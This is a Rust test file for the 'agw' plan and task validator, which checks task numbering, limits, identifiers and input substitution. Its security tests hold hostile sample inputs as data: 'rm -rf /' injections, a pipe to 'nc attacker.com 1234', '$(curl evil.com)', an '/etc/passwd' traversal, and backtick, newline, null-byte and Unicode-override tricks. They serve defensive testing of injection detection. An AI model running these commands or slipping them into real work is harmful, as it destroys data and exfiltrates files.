use agw::error::ErrorKind;
use agw::plan::{default_job_status, Job, Plan, Task};

fn value(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap()
}

fn task(number: u32, command: &str) -> Task {
    Task {
        task_number: number,
        command: command.to_string(),
        args: vec![],
        input_from_task: None,
        timeout_secs: None,
    }
}

fn plan_of(tasks: Vec<Task>) -> Plan {
    Plan {
        plan_id: "plan-456".to_string(),
        plan_description: None,
        tasks,
    }
}

#[test]
fn test_plan_creation() {
    let plan = Plan {
        plan_id: "plan-456".to_string(),
        plan_description: Some("Test plan".to_string()),
        tasks: vec![Task {
            task_number: 1,
            command: "echo".to_string(),
            args: vec!["hello".to_string()],
            input_from_task: None,
            timeout_secs: Some(30),
        }],
    };

    assert_eq!(plan.plan_id, "plan-456");
    assert_eq!(plan.tasks.len(), 1);
}

#[test]
fn test_plan_with_multiple_steps() {
    let plan = Plan {
        plan_id: "plan-456".to_string(),
        plan_description: Some("Multi-step plan".to_string()),
        tasks: vec![
            Task {
                task_number: 1,
                command: "sort".to_string(),
                args: vec!["-r".to_string()],
                input_from_task: None,
                timeout_secs: Some(30),
            },
            Task {
                task_number: 2,
                command: "uniq".to_string(),
                args: vec![],
                input_from_task: Some(1),
                timeout_secs: Some(30),
            },
        ],
    };

    assert_eq!(plan.tasks.len(), 2);
    assert_eq!(plan.tasks[1].input_from_task, Some(1));
}

#[test]
fn test_plan_validation_success() {
    let plan = Plan {
        plan_id: "plan-456".to_string(),
        plan_description: Some("Valid plan".to_string()),
        tasks: vec![
            Task {
                task_number: 1,
                command: "echo".to_string(),
                args: vec!["test".to_string()],
                input_from_task: None,
                timeout_secs: Some(30),
            },
            Task {
                task_number: 2,
                command: "wc".to_string(),
                args: vec!["-l".to_string()],
                input_from_task: Some(1),
                timeout_secs: Some(30),
            },
        ],
    };

    assert!(plan.validate().is_ok());
}

#[test]
fn test_plan_validation_empty_tasks() {
    let plan = Plan {
        plan_id: "plan-456".to_string(),
        plan_description: None,
        tasks: vec![],
    };

    assert!(plan.validate().is_err());
}

#[test]
fn test_plan_validation_non_contiguous_tasks() {
    let plan = Plan {
        plan_id: "plan-456".to_string(),
        plan_description: None,
        tasks: vec![
            Task {
                task_number: 1,
                command: "echo".to_string(),
                args: vec![],
                input_from_task: None,
                timeout_secs: None,
            },
            Task {
                task_number: 3, // Skip 2
                command: "wc".to_string(),
                args: vec![],
                input_from_task: None,
                timeout_secs: None,
            },
        ],
    };

    assert!(plan.validate().is_err());
}

#[test]
fn test_plan_validation_invalid_input_from_task() {
    let plan = Plan {
        plan_id: "plan-456".to_string(),
        plan_description: None,
        tasks: vec![
            Task {
                task_number: 1,
                command: "echo".to_string(),
                args: vec![],
                input_from_task: None,
                timeout_secs: None,
            },
            Task {
                task_number: 2,
                command: "wc".to_string(),
                args: vec![],
                input_from_task: Some(2), // Cannot reference self
                timeout_secs: None,
            },
        ],
    };

    assert!(plan.validate().is_err());
}

#[test]
fn test_task_validation_command_injection() {
    let task = Task {
        task_number: 1,
        command: "ls; rm -rf /".to_string(),
        args: vec![],
        input_from_task: None,
        timeout_secs: None,
    };

    assert!(task.validate().is_err());
}

#[test]
fn test_task_validation_timeout_too_low() {
    let task = Task {
        task_number: 1,
        command: "sleep".to_string(),
        args: vec!["10".to_string()],
        input_from_task: None,
        timeout_secs: Some(0),
    };

    assert!(task.validate().is_err());
}

#[test]
fn test_task_substitute_input() {
    let task = Task {
        task_number: 1,
        command: "cat".to_string(),
        args: vec!["{{input.path}}".to_string(), "-n".to_string()],
        input_from_task: None,
        timeout_secs: Some(30),
    };

    let input = value(r#"{"path": "/tmp/test.txt"}"#);
    let result = task.substitute_input(&input).unwrap();

    assert_eq!(result.args[0], "/tmp/test.txt");
    assert_eq!(result.args[1], "-n");
}

#[test]
fn test_task_substitute_input_multiple_args() {
    let task = Task {
        task_number: 1,
        command: "cp".to_string(),
        args: vec!["{{input.src}}".to_string(), "{{input.dest}}".to_string()],
        input_from_task: None,
        timeout_secs: Some(30),
    };

    let input = value(r#"{"src": "/tmp/a", "dest": "/tmp/b"}"#);
    let result = task.substitute_input(&input).unwrap();

    assert_eq!(result.args[0], "/tmp/a");
    assert_eq!(result.args[1], "/tmp/b");
}

fn one_placeholder_task(command: &str, arg: &str) -> Task {
    Task {
        task_number: 1,
        command: command.to_string(),
        args: vec![arg.to_string()],
        input_from_task: None,
        timeout_secs: Some(30),
    }
}

#[test]
fn test_security_command_injection_after_substitution() {
    let task = one_placeholder_task("cat", "{{input.path}}");

    // Attempt command injection via input
    let malicious_input = value(r#"{"path": "/tmp/file; rm -rf /"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();

    // Validation should catch the semicolon
    assert!(
        substituted_task.validate().is_err(),
        "Command injection via semicolon should be detected"
    );
}

#[test]
fn test_security_pipe_injection_after_substitution() {
    let task = one_placeholder_task("cat", "{{input.file}}");

    let malicious_input = value(r#"{"file": "test.txt | nc attacker.com 1234"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();

    assert!(
        substituted_task.validate().is_err(),
        "Pipe injection should be detected"
    );
}

#[test]
fn test_security_path_traversal_after_substitution() {
    let task = one_placeholder_task("cat", "{{input.path}}");

    let malicious_input = value(r#"{"path": "../../../etc/passwd"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();

    assert!(
        substituted_task.validate().is_err(),
        "Path traversal should be detected"
    );
}

#[test]
fn test_security_backtick_substitution_injection() {
    let task = one_placeholder_task("echo", "{{input.value}}");

    let malicious_input = value(r#"{"value": "`whoami`"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();

    assert!(
        substituted_task.validate().is_err(),
        "Backtick command substitution should be detected"
    );
}

#[test]
fn test_security_dollar_substitution_injection() {
    let task = one_placeholder_task("echo", "{{input.value}}");

    let malicious_input = value(r#"{"value": "$(curl evil.com)"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();

    assert!(
        substituted_task.validate().is_err(),
        "Dollar command substitution should be detected"
    );
}

#[test]
fn test_security_newline_injection() {
    let task = one_placeholder_task("cat", "{{input.file}}");

    let malicious_input = value(r#"{"file": "test.txt\nrm -rf /"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();
    assert_eq!(substituted_task.args[0], "test.txt\nrm -rf /");

    assert!(
        substituted_task.validate().is_err(),
        "Newline injection should be detected"
    );
}

#[test]
fn test_security_null_byte_injection() {
    let task = one_placeholder_task("cat", "{{input.file}}");

    let malicious_input = value(r#"{"file": "test.txt\u0000malicious"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();
    assert_eq!(substituted_task.args[0], "test.txt\0malicious");

    assert!(
        substituted_task.validate().is_err(),
        "Null byte injection should be detected"
    );
}

#[test]
fn test_security_dangerous_unicode_after_substitution() {
    let task = one_placeholder_task("echo", "{{input.text}}");

    // Right-to-left override character
    let malicious_input = value(r#"{"text": "test\u202Emalicious"}"#);
    let substituted_task = task.substitute_input(&malicious_input).unwrap();
    assert_eq!(substituted_task.args[0], "test\u{202E}malicious");

    assert!(
        substituted_task.validate().is_err(),
        "Dangerous Unicode should be detected"
    );
}

#[test]
fn test_security_safe_input_passes_validation() {
    let task = one_placeholder_task("cat", "{{input.path}}");

    // Safe input should pass validation
    let safe_input = value(r#"{"path": "/tmp/test_file_123.txt"}"#);
    let substituted_task = task.substitute_input(&safe_input).unwrap();

    assert!(
        substituted_task.validate().is_ok(),
        "Safe input should pass validation"
    );
}

#[test]
fn test_security_multiple_safe_args_pass_validation() {
    let task = Task {
        task_number: 1,
        command: "cp".to_string(),
        args: vec![
            "{{input.src}}".to_string(),
            "{{input.dest}}".to_string(),
            "-v".to_string(),
        ],
        input_from_task: None,
        timeout_secs: Some(30),
    };

    let safe_input = value(r#"{"src": "/tmp/source.txt", "dest": "/tmp/destination.txt"}"#);
    let substituted_task = task.substitute_input(&safe_input).unwrap();

    assert!(
        substituted_task.validate().is_ok(),
        "Safe multi-arg input should pass validation"
    );
}

#[test]
fn substitute_input_keeps_everything_but_the_arguments() {
    let task = Task {
        task_number: 7,
        command: "{{input.path}}".to_string(),
        args: vec!["a{{input.path}}b".to_string()],
        input_from_task: Some(3),
        timeout_secs: Some(12),
    };
    let filled = task.substitute_input(&value(r#"{"path": "X"}"#)).unwrap();
    assert_eq!(filled.task_number, 7);
    assert_eq!(filled.command, "{{input.path}}");
    assert_eq!(filled.args, vec!["aXb".to_string()]);
    assert_eq!(filled.input_from_task, Some(3));
    assert_eq!(filled.timeout_secs, Some(12));
}

#[test]
fn substitute_input_fails_on_the_first_argument_that_cannot_be_filled() {
    let task = Task {
        task_number: 1,
        command: "cp".to_string(),
        args: vec![
            "{{input.src}}".to_string(),
            "{{input.first}}".to_string(),
            "{{input.second}}".to_string(),
        ],
        input_from_task: None,
        timeout_secs: None,
    };
    let e = task
        .substitute_input(&value(r#"{"src": "/tmp/a"}"#))
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Worker);
    assert_eq!(e.message(), "Missing required input fields: first");
}

#[test]
fn plan_with_too_many_tasks_is_rejected() {
    let tasks: Vec<Task> = (1..=101).map(|n| task(n, "echo")).collect();
    let e = plan_of(tasks).validate().unwrap_err();
    assert_eq!(e.message(), "Plan exceeds maximum of 100 tasks");
    let tasks: Vec<Task> = (1..=100).map(|n| task(n, "echo")).collect();
    assert!(plan_of(tasks).validate().is_ok());
}

#[test]
fn plan_task_numbers_must_run_from_one_without_a_gap() {
    assert!(plan_of(vec![task(1, "echo"), task(2, "wc")]).validate().is_ok());
    let e = plan_of(vec![task(1, "echo"), task(3, "wc")])
        .validate()
        .unwrap_err();
    assert_eq!(
        e.message(),
        "Task numbers must be contiguous starting at 1: expected 2, got 3"
    );
    let e = plan_of(vec![task(0, "echo")]).validate().unwrap_err();
    assert_eq!(
        e.message(),
        "Task numbers must be contiguous starting at 1: expected 1, got 0"
    );
}

#[test]
fn plan_input_reference_must_name_an_earlier_task() {
    let mut second = task(2, "wc");
    second.input_from_task = Some(1);
    assert!(plan_of(vec![task(1, "echo"), second.clone()])
        .validate()
        .is_ok());

    second.input_from_task = Some(2);
    let e = plan_of(vec![task(1, "echo"), second.clone()])
        .validate()
        .unwrap_err();
    assert_eq!(
        e.message(),
        "Task 2 has invalid input_from_task 2: cannot reference self or future tasks"
    );

    second.input_from_task = Some(0);
    let e = plan_of(vec![task(1, "echo"), second.clone()])
        .validate()
        .unwrap_err();
    assert_eq!(e.message(), "input_from_task must be >= 1");

    second.input_from_task = Some(3);
    assert!(plan_of(vec![task(1, "echo"), second])
        .validate()
        .is_err());
}

#[test]
fn plan_messages_name_the_first_broken_rule() {
    let mut plan = plan_of(vec![]);
    plan.plan_id = "".to_string();
    assert_eq!(plan.validate().unwrap_err().message(), "plan_id cannot be empty");

    let mut plan = plan_of(vec![task(1, "echo")]);
    plan.plan_id = "plan:1".to_string();
    assert_eq!(
        plan.validate().unwrap_err().message(),
        "plan_id can only contain alphanumeric characters, hyphens, and underscores"
    );

    let mut plan = plan_of(vec![task(1, "echo")]);
    plan.plan_description = Some("x".repeat(1025));
    assert_eq!(
        plan.validate().unwrap_err().message(),
        "plan_description exceeds maximum length of 1024"
    );
    plan.plan_description = Some("two\nlines\tand a tab".to_string());
    assert!(plan.validate().is_ok());
    plan.plan_description = Some("bell\u{0007}".to_string());
    assert_eq!(
        plan.validate().unwrap_err().message(),
        "plan_description contains control character"
    );

    assert_eq!(
        plan_of(vec![]).validate().unwrap_err().message(),
        "Plan must contain at least one task"
    );

    let e = plan_of(vec![task(1, "echo"), task(2, "ls | wc")])
        .validate()
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Worker);
    assert_eq!(e.message(), "command contains dangerous character: '|'");
    assert_eq!(
        e.to_string(),
        "Worker error: command contains dangerous character: '|'"
    );
}

#[test]
fn task_messages_name_the_first_broken_rule() {
    let mut t = task(4, "echo");
    t.args = vec!["fine".to_string(), "a$b".to_string(), "c;d".to_string()];
    assert_eq!(
        t.validate().unwrap_err().message(),
        "args[1] contains dangerous character: '$'"
    );

    let mut t = task(4, "echo");
    t.args = (0..257).map(|i| format!("arg{i}")).collect();
    assert_eq!(
        t.validate().unwrap_err().message(),
        "Task 4 exceeds maximum of 256 arguments"
    );
    t.args.pop();
    assert!(t.validate().is_ok());

    let mut t = task(4, "echo");
    t.timeout_secs = Some(0);
    assert_eq!(
        t.validate().unwrap_err().message(),
        "Task 4 timeout must be at least 1 seconds"
    );
    t.timeout_secs = Some(86401);
    assert_eq!(
        t.validate().unwrap_err().message(),
        "Task 4 timeout must not exceed 86400 seconds"
    );
    t.timeout_secs = Some(86400);
    assert!(t.validate().is_ok());
    t.timeout_secs = Some(1);
    assert!(t.validate().is_ok());

    let mut t = task(4, "echo");
    t.args = vec!["x".repeat(4097)];
    assert_eq!(
        t.validate().unwrap_err().message(),
        "args[0] exceeds maximum length of 4096"
    );
    t.args = vec!["x".repeat(4096)];
    assert!(t.validate().is_ok());

    assert_eq!(
        task(1, &"c".repeat(4097)).validate().unwrap_err().message(),
        "command exceeds maximum length of 4096"
    );
    assert_eq!(
        task(1, "cat ../x").validate().unwrap_err().message(),
        "command contains path traversal sequence"
    );
    assert!(task(1, "echo 1..10").validate().is_ok());
    assert!(task(1, "").validate().is_ok());
}

#[test]
fn job_validate_checks_both_identifiers() {
    let job = Job {
        job_id: "job-123".to_string(),
        plan_id: "plan-456".to_string(),
        input: value(r#"{"path": "/tmp"}"#),
        status: default_job_status(),
    };
    assert!(job.validate().is_ok());
    assert_eq!(job.status, "pending");

    let mut bad = job.clone();
    bad.job_id = "x:y".to_string();
    assert_eq!(
        bad.validate().unwrap_err().message(),
        "job_id can only contain alphanumeric characters, hyphens, and underscores"
    );
    bad.job_id = "".to_string();
    assert_eq!(bad.validate().unwrap_err().message(), "job_id cannot be empty");
    bad.job_id = "j".repeat(129);
    assert_eq!(
        bad.validate().unwrap_err().message(),
        "job_id exceeds maximum length of 128"
    );
    bad.job_id = "j".repeat(128);
    assert!(bad.validate().is_ok());

    let mut bad = job.clone();
    bad.plan_id = "plan 1".to_string();
    assert_eq!(
        bad.validate().unwrap_err().message(),
        "plan_id can only contain alphanumeric characters, hyphens, and underscores"
    );
}

#[test]
fn a_copy_of_a_job_fills_placeholders_as_the_job_does() {
    let job = Job {
        job_id: "job-123".to_string(),
        plan_id: "plan-456".to_string(),
        input: value(r#"{"path": "/tmp/a", "n": 2}"#),
        status: default_job_status(),
    };
    let copy = job.clone();
    assert_eq!(copy, job);
    let t = one_placeholder_task("head", "-n{{input.n}} {{input.path}}");
    assert_eq!(
        t.substitute_input(&copy.input).unwrap().args,
        t.substitute_input(&job.input).unwrap().args
    );
    assert_eq!(
        t.substitute_input(&copy.input).unwrap().args,
        vec!["-n2 /tmp/a".to_string()]
    );
}
